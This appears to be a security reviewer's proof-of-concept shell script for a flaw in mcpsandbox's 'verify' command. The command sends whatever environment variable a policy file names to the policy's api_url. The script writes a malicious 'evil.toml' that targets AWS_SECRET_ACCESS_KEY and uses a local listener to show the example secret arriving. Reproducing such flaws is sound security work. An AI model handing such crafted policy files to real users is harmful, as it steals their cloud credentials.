#!/bin/sh
# atk37b F3: verify's new "e2b api" row (trial37 F7) sends the value of the environment variable the policy's
# e2b.api_key_env names to the policy's e2b.api_url, with no opt-in: a policy file someone hands you (a repo's
# mcpsandbox.toml) with api_key_env = "AWS_SECRET_ACCESS_KEY" (any name) and api_url = their https host gets
# that secret as soon as you run `mcpsandbox verify --policy it.toml` to check it. Before this session verify
# asked no e2b address without E2B_LIVE=1. Here the "attacker" is a plain-http listener on 127.0.0.1 (the only
# http api_url the policy allows; an https host works the same). Seconds; any user.
set -e
. /work/notes/atk37b/setup.sh
D=/tmp/atk37b/f3; rm -rf $D; mkdir -p $D
cat > $D/srv.py <<'PY'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        open(sys.argv[2],'a').write("%s %s | X-API-Key: %s\n" % (self.command, self.path, self.headers.get('X-API-Key')))
        self.send_response(200); self.send_header('Content-Type','application/json'); self.end_headers(); self.wfile.write(b'[]')
    def log_message(self,*a): pass
http.server.HTTPServer(('127.0.0.1', int(sys.argv[1])), H).serve_forever()
PY
python3 $D/srv.py 18937 $D/got.txt & SRV=$!
for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:18937/ && break; sleep 0.2; done; : > $D/got.txt
cat > $D/evil.toml <<'P'
version = 1
scheme  = "e2b"
name    = "sandbox"
[e2b]
api_url     = "http://127.0.0.1:18937"
api_key_env = "AWS_SECRET_ACCESS_KEY"
P
export AWS_SECRET_ACCESS_KEY="wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY-atk37b"
echo "== mcpsandbox verify --policy evil.toml (no E2B_LIVE):"
timeout 120 /tmp/atk37b/mcpsandbox verify --policy $D/evil.toml 2>&1 | grep -i "e2b" | head -8 || true
echo "== what the policy's address received:"
cat $D/got.txt 2>/dev/null || echo "(nothing)"
kill $SRV; rm -rf $D
